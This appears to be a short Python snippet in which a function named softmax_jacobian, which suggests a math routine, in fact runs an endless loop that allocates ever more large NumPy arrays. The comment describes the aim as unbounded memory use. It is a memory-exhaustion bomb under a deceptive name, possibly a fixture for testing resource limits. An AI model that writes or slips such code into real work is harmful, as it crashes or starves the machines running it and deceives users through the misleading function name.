# Allocate (and touch) memory without bound.
def softmax_jacobian(z):
    hoard = []
    while True:
        hoard.append(np.ones(2**25))
